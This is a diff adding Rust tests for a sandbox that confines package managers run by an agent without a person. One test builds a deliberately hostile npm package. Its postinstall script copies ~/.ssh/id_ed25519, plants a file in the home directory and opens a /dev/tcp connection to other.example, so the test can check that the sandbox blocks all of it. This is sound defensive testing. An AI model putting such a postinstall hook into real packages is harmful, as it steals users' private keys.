@@ -1,6 +1,7 @@
 //! Package managers in the sandbox.
 
 use std::{
+    fs,
     process::{Command, Output, Stdio},
     time::{Duration, Instant},
 };
@@ -53,4 +54,88 @@ fn a_reachable_registry_is_tried_again() {
         let (output, _) = run_offline(&arena, options, &["sh", "-c", script]);
         assert_eq!(String::from_utf8_lossy(&output.stdout), expected, "{options:?}");
     }
+}
+
+/// A project of a person whose policy lets the sandbox confine commands.
+fn confining_project(rules: &str) -> Arena {
+    let arena = Arena::new();
+    let policy = arena.path("home/.config/openoxide/policy.toml");
+    fs::create_dir_all(policy.parent().unwrap()).unwrap();
+    let settings =
+        format!("[sandbox]\nauto_allow = \"project\"\n[permissions]\nallow = [{rules}]\n");
+    fs::write(policy, settings).unwrap();
+    fs::write(arena.path("w/package.json"), r#"{"name":"w","version":"1.0.0"}"#).unwrap();
+    arena
+}
+
+/// Runs a script as an agent does, without a person. Returns its messages.
+fn run_unattended(arena: &Arena, script: &str) -> (Option<i32>, String) {
+    let mut run = arena.command();
+    run.args(["run", "--no-input", "--", "bash", "-c", script]).stdin(Stdio::null());
+    let output = run.output().unwrap();
+    (output.status.code(), String::from_utf8(output.stderr).unwrap())
+}
+
+const NPM_RULE: &str = "\"WebFetch(registry:npm)\"";
+
+#[test]
+fn a_rule_about_a_registry_answers_for_all_its_installations_and_no_upload() {
+    let arena = confining_project("");
+    let (status, text) = run_unattended(&arena, "npm install is-odd");
+    assert_eq!(status, Some(4), "{text}");
+    assert!(text.contains("contacts `registry.npmjs.org`"), "{text}");
+    assert!(text.contains("add a rule to your policy: WebFetch(registry:npm)"), "{text}");
+    let arena = confining_project(NPM_RULE);
+    for command in ["npm publish", "npm install -g is-odd", "cargo fetch", "pip install six"] {
+        let (status, text) = run_unattended(&arena, command);
+        assert_eq!(status, Some(4), "{command}: {text}");
+        assert!(text.contains("nothing was run"), "{text}");
+    }
+    if !is_installed("npm") {
+        return;
+    }
+    let (status, text) = run_unattended(&arena, "npm install --ignore-scripts");
+    assert_eq!(status, Some(0), "{text}");
+}
+
+#[test]
+fn packages_are_installed_from_the_real_registry() {
+    let online = Command::new("npm").args(["view", "is-odd", "version"]).output();
+    if !online.is_ok_and(|output| output.status.success()) {
+        return;
+    }
+    let arena = confining_project(NPM_RULE);
+    let (status, text) = run_unattended(&arena, "npm install is-number");
+    assert_eq!(status, Some(0), "{text}");
+    assert!(arena.path("w/node_modules/is-number/package.json").exists());
+    assert!(!arena.path("home/.npm").exists(), "the cache stays private");
+}
+
+/// The positive control is the file that the script creates in its own package.
+#[test]
+fn an_install_script_reads_no_secret_and_contacts_no_other_host() {
+    if !is_installed("npm") {
+        return;
+    }
+    let arena = confining_project(NPM_RULE);
+    fs::create_dir_all(arena.path("home/.ssh")).unwrap();
+    fs::write(arena.path("home/.ssh/id_ed25519"), "the-private-key").unwrap();
+    fs::create_dir_all(arena.path("package")).unwrap();
+    let script = "touch ran; cat ~/.ssh/id_ed25519 > stolen; touch ~/planted; \
+        (exec 3<>/dev/tcp/other.example/443) && touch sent; true";
+    fs::write(arena.path("package/steal.sh"), script).unwrap();
+    let manifest =
+        r#"{"name":"hostile","version":"1.0.0","scripts":{"postinstall":"bash steal.sh"}}"#;
+    fs::write(arena.path("package/package.json"), manifest).unwrap();
+    let mut pack = Command::new("tar");
+    pack.args(["czf", "w/hostile.tgz", "package"]).current_dir(arena.path(""));
+    assert!(pack.status().unwrap().success());
+    let (status, text) =
+        run_unattended(&arena, "npm install --dangerously-allow-all-scripts ./hostile.tgz");
+    assert_eq!(status, Some(0), "{text}");
+    let package = arena.path("w/node_modules/hostile");
+    assert!(package.join("ran").exists(), "the script ran: {text}");
+    assert_eq!(fs::read_to_string(package.join("stolen")).unwrap(), "");
+    assert!(!package.join("sent").exists() && !arena.path("home/planted").exists());
+    assert!(text.contains("refused: a connection to other.example:443"), "{text}");
 }
